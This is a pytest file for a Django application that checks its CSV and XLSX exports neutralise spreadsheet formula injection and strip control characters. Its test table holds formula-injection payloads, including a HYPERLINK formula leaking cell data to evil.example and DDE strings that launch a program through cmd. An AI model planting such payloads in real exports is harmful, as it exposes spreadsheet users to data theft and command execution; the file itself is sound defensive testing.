"""Spreadsheet exports [S3]: no cell that a spreadsheet would run as a formula, no control
character, in every export (the staff lists and the admin of each app), CSV and XLSX alike;
the admin offers no other format."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from members.models import Organisation
from members.resources import OrganisationResource
from pole.exports import neutralise_cell, restore_cell
from tests.conftest import login, make_user
from tests.factories import OrganisationFactory, PersonFactory, ProjectFactory

pytestmark = pytest.mark.django_db

# What a hostile contact could type into a name, and what the export must hold instead.
HOSTILE = {
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")': '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+33 1 23 45 67 89": "'+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0": "'@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1 tabbed": "'\t=1+1 tabbed",
    "\r=1+1 returned": "'\r=1+1 returned",
    "Bell\x07and\x1bescape\x7f Ltd": "Bellandescape Ltd",
    "Plain Name SA": "Plain Name SA",
}


def test_neutralise_cell_table():
    for value, expected in HOSTILE.items():
        assert neutralise_cell(value) == expected
    assert neutralise_cell("Line one\nline two") == "Line one\nline two"
    assert neutralise_cell("\x00=1+1") == "'=1+1"  # a control character cannot hide a formula
    assert neutralise_cell(-12) == -12  # numbers stay numbers


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def xlsx_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value  # never a formula
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def column(rows, header) -> list:
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


def xlsx_text(value: str) -> str:
    # XML turns a bare carriage return into a line feed; the neutralising quote stays.
    return value.replace("\r", "\n")


@pytest.fixture
def staff_client(client, staff_user, totp_secret):
    login(client, staff_user, totp_secret)
    return client


@pytest.fixture
def superuser_client(client, django_user_model, totp_secret):
    user = make_user(django_user_model, "root@pole.example", is_staff=True, is_superuser=True, totp_secret=totp_secret)
    login(client, user, totp_secret)
    return client


@pytest.fixture
def hostile_organisations():
    return [OrganisationFactory(legal_name=name, acronym=name[:20]) for name in HOSTILE]


@pytest.fixture
def hostile_projects(hostile_organisations):
    return [
        ProjectFactory(acronym=f"P{index}", title_fr=name, lead_organisation=organisation)
        for index, (name, organisation) in enumerate(zip(HOSTILE, hostile_organisations, strict=True))
    ]


def url(name, query=""):
    with translation.override("en"):
        return reverse(name) + (f"?{query}" if query else "")


# --- Staff lists ----------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_staff_organisations_export_neutralises_formulas(staff_client, hostile_organisations, file_format):
    response = staff_client.get(url("members:staff-members-export", f"format={file_format}"))
    assert response.status_code == 200
    if file_format == "csv":
        names = column(csv_rows(response), "Legal name")
        assert sorted(names) == sorted(HOSTILE.values())
    else:
        names = column(xlsx_rows(response), "Legal name")
        assert sorted(names) == sorted(xlsx_text(value) for value in HOSTILE.values())


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_staff_projects_export_neutralises_formulas(staff_client, hostile_projects, file_format):
    response = staff_client.get(url("projects:staff-projects", f"format={file_format}"))
    assert response.status_code == 200
    rows = csv_rows(response) if file_format == "csv" else xlsx_rows(response)
    expected = HOSTILE.values() if file_format == "csv" else [xlsx_text(value) for value in HOSTILE.values()]
    assert sorted(column(rows, "Title (French)")) == sorted(expected)
    assert sorted(column(rows, "Lead partner")) == sorted(expected)


# --- The admin ------------------------------------------------------------------------------


def admin_export(client, model_path: str, resource: str, file_format: str, fields: list[str]):
    data = {"format": {"csv": "0", "xlsx": "1"}[file_format], "resource": "0"}
    data.update({f"{resource}_{name}": "on" for name in fields})
    return client.post(f"/en/admin/{model_path}/export/", data)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_admin_organisation_export_neutralises_formulas(superuser_client, hostile_organisations, file_format):
    response = admin_export(
        superuser_client, "members/organisation", "organisationresource", file_format, ["id", "legal_name"]
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith(f'.{file_format}"')
    rows = csv_rows(response) if file_format == "csv" else xlsx_rows(response)
    expected = HOSTILE.values() if file_format == "csv" else [xlsx_text(value) for value in HOSTILE.values()]
    assert sorted(column(rows, rows[0][1])) == sorted(expected)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_admin_person_export_neutralises_formulas(superuser_client, file_format):
    organisation = OrganisationFactory()
    for name in HOSTILE:
        PersonFactory(organisation=organisation, last_name=name)
    response = admin_export(superuser_client, "members/person", "personresource", file_format, ["id", "last_name"])
    assert response.status_code == 200
    rows = csv_rows(response) if file_format == "csv" else xlsx_rows(response)
    expected = HOSTILE.values() if file_format == "csv" else [xlsx_text(value) for value in HOSTILE.values()]
    assert sorted(column(rows, rows[0][1])) == sorted(expected)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_admin_project_export_neutralises_formulas(superuser_client, hostile_projects, file_format):
    response = admin_export(
        superuser_client, "projects/project", "projectresource", file_format, ["id", "title_fr", "lead_organisation"]
    )
    assert response.status_code == 200
    rows = csv_rows(response) if file_format == "csv" else xlsx_rows(response)
    expected = HOSTILE.values() if file_format == "csv" else [xlsx_text(value) for value in HOSTILE.values()]
    assert sorted(column(rows, rows[0][1])) == sorted(expected)
    assert sorted(column(rows, rows[0][2])) == sorted(expected)


@pytest.mark.parametrize("page", ["members/organisation/export/", "members/organisation/import/"])
def test_admin_offers_csv_and_xlsx_only(superuser_client, page):
    response = superuser_client.get(f"/en/admin/{page}")
    assert response.status_code == 200
    choices = [str(label) for value, label in response.context["form"].fields["format"].choices if value != ""]
    assert choices == ["csv", "xlsx"]


def test_a_neutralised_export_imports_back_unchanged(hostile_organisations):
    exported = OrganisationResource().export(Organisation.objects.order_by("pk"))
    assert sorted(exported["Legal name"]) == sorted(HOSTILE.values())
    Organisation.objects.update(legal_name="changed")

    result = OrganisationResource().import_data(exported, dry_run=False, use_transactions=True)

    assert not result.has_errors() and not result.has_validation_errors()
    names = set(Organisation.objects.values_list("legal_name", flat=True))
    assert names == {restore_cell(value) for value in HOSTILE.values()}  # without control characters
    assert "=HYPERLINK(" + '"http://evil.example/?d="&A1,"Click")' in names
